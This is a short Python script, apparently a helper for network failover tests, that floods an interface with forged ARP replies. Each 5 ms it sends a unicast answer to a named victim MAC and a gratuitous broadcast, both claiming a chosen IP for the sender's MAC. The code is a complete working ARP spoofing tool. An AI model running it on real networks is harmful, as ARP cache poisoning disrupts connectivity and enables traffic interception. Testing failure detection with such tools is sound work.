"""A blind ARP forger for the probing tests (python3 stdlib, AF_PACKET, root).

    arp_forger.py IFNAME VICTIM_MAC CLAIMED_IP SECONDS

Sends, every 5 ms for SECONDS, on IFNAME, "CLAIMED_IP is-at <IFNAME's MAC>" twice: as
an answer to an ARP probe of VICTIM_MAC (unicast to it, target hardware address
VICTIM_MAC, target IP 0.0.0.0 — what a real answer to mpathd's probe looks like) and
as a gratuitous broadcast reply (target IP = sender IP). It never reads: it does not
see the victim's requests and answers none of them. Prints the number of frames sent
every 200 frames and at the end."""

import signal
import socket
import struct
import sys
import time

PERIOD = 0.005  # one answer and one gratuitous reply per period: a steady flood


def mac_bytes(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def arp_reply(eth_dst: bytes, sha: bytes, spa: bytes, tha: bytes, tpa: bytes) -> bytes:
    return (eth_dst + sha + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
            + sha + spa + tha + tpa)


def main() -> int:
    ifname, victim, claimed, seconds = sys.argv[1], mac_bytes(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    own = mac_bytes(open(f"/sys/class/net/{ifname}/address").read().strip())
    ip = socket.inet_aton(claimed)
    answer = arp_reply(victim, own, ip, victim, bytes(4))
    gratuitous = arp_reply(b"\xff" * 6, own, ip, b"\xff" * 6, ip)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    sent = 0
    end = time.monotonic() + seconds
    # Paced by an interval timer (a packet rate, not a wait for a condition): bounded by
    # SECONDS, and no drift however long a send takes.
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    signal.setitimer(signal.ITIMER_REAL, PERIOD, PERIOD)
    while time.monotonic() < end:
        s.send(answer)
        s.send(gratuitous)
        sent += 2
        if sent % 200 == 0:
            print(sent, flush=True)
        signal.sigwait({signal.SIGALRM})
    signal.setitimer(signal.ITIMER_REAL, 0)
    print(sent, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
